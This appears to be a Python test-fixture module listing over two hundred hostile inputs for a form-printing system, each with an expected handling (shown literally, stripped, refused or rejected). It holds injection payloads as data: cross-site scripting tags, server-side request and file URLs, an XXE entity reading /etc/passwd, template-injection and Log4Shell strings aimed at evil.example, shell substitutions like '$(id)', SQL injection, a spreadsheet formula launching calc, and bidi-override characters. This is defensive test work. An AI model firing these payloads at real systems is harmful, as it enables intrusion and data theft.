"""What strangers write into fields: more than two hundred inputs that are no honest text, and what must become of each."""

from __future__ import annotations

from itertools import product
from typing import Any

EVIL = (
    *("https://evil.example/x", "http://169.254.169.254/latest", "//evil.example/a", "file:///etc/passwd"),
    *("data:text/html;base64,PHNjcmlwdD4=", "javascript:alert(1)", "paper:qr", "ftp://evil.example/"),
)
_POINTING = (
    *('<img src="{}" onerror="alert(1)">', "<img src={}>", "<script src='{}'></script>", "<iframe src={}></iframe>"),
    *('<object data="{}"></object>', "<embed src='{}'>", '<link rel=attachment href="{}">', '<a href="{}">x</a>'),
    *('<link rel=stylesheet href="{}">', '<base href="{}">', '<svg><image href="{}"/></svg>', "<video poster={}>"),
    *('<meta http-equiv="refresh" content="0;url={}">', '<input type=image src="{}">', "<table background='{}'>"),
    *("<style>@import url({})</style>", "<p style=\"background:url('{}')\">", "}} body {{ background: url({}) }} {{"),
    *("@font-face {{ src: url({}) }}", '" style="list-style-image:url({})', "<!DOCTYPE x SYSTEM '{}'>"),
)
# Printed as the text it is: nothing of it means anything to a paper.
SHOWN = (
    *(form.format(address) for form, address in product(_POINTING, EVIL)),
    *("<script>alert(1)</script>", '<svg onload="alert(1)">', "<style>*{display:none}</style>", "</p></body></html>"),
    *("<!-- --><!--", "&lt;b&gt;&#60;&amp;nbsp;", "<![CDATA[<b>]]>", "<table><tr><td>", "</td></tr></table>", "<h1>"),
    *('" id="hand-1', '" data-hand="x', '<div id="seal">', "<textarea>", "<template>", "<math><mi>x", "<plaintext>"),
    *('<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;', '" style="position:fixed;font-size:400pt', "<br>"),
    *("{{ 7*7 }}", "{% for x in ().__class__.__mro__ %}", "{{ cycler.__init__.__globals__ }}", "{% endblock %}"),
    *("{# comment #}", "{{ self }}", "%s%n{0.__class__}", "${jndi:ldap://evil.example}", "$(id)", "`id`", "|id;"),
    *(") Tj ET endstream endobj", "1 0 obj << /JS (app.alert) >>", "/OpenAction", "%%EOF", "\\(", "\\0 \\u0041"),
    *("\"'`“”‘’«»", "\\\\server\\share\\a", "../../etc/passwd", "'; DROP TABLE party; --", "=cmd|'/c calc'!A0"),
    *("content: counter(page)", "!important", "var(--x)", "calc(1px/0)", "-" * 60, "1" * 60, "（" * 60, "，。" * 9),
)
# Printed without what hides, joins or reorders: what is hidden by it shows.
HIDDEN = {
    "李\u202e四\u202c": "李四",
    "李\u2066四\u2069": "李四",
    "李\u200e\u200f\u061c四": "李四",
    "李\u200b\u200d四\ufeff": "李四",
    "李\x00四": "李四",
    "李\x1b[31m四": "李[31m四",
    "李\x08四": "李四",
    "李\x9b四": "李四",
    "李\u00ad四": "李四",
    "李\ufe00\U000e0101四": "李四",
    "李\U000e0041\U000e007f四": "李四",
    "李\u3164四": "李四",
    "李\u2060四\u034f": "李四",
    "李\t\t四": "李  四",
    "\x07\x7f李四\x1f": "李四",
    "李\ufff9四\ufffb": "李四",
}
# Refused by name: no paper can print it.
REFUSED = (
    *(("李\udcff", "no-glyph"), ("李\uf8ff", "no-glyph"), ("李\uffff", "no-glyph"), ("李\U0003ffff", "no-glyph")),
    *(("李👨‍👩‍👧", "no-glyph"), ("محمد", "no-glyph"), ("דוד", "no-glyph"), ("สมชาย", "no-glyph"), ("𠮷", "no-glyph")),
    *(("Z\u0351\u036b\u0343\u036a", "no-glyph"), ("李" * 10_001, "too-long"), ("\u200b" * 10_001, "too-long")),
    *(("，。" * 30, "unbreakable"), ("李" + "." * 59, "unbreakable")),
    *(("\u200b\u202e", "missing"), ("\x00\x01", "missing"), ("  ", "missing"), (7, "wrong-type")),
    *((True, "wrong-type"), (["李四"], "wrong-type"), ({"__html__": "<b>"}, "wrong-type"), (b"x", "wrong-type")),
)
# What no date, amount, number, choice or yes-or-no is.
ODD: tuple[Any, ...] = (
    *("<script>", "1e999", "NaN", "-1", "2026-02-30", "0000-00-00", "9" * 400, "{{ 7*7 }}", "\u202e1", "١٢٣", [[]], {}),
    *(float("inf"), -(10**30), {"a": 1}, "2026-11-21T99:99", "2026-11-21T10:00+25:00", "壹万壹", "ghost", "٢٠٢٦-١١-٢١"),
)
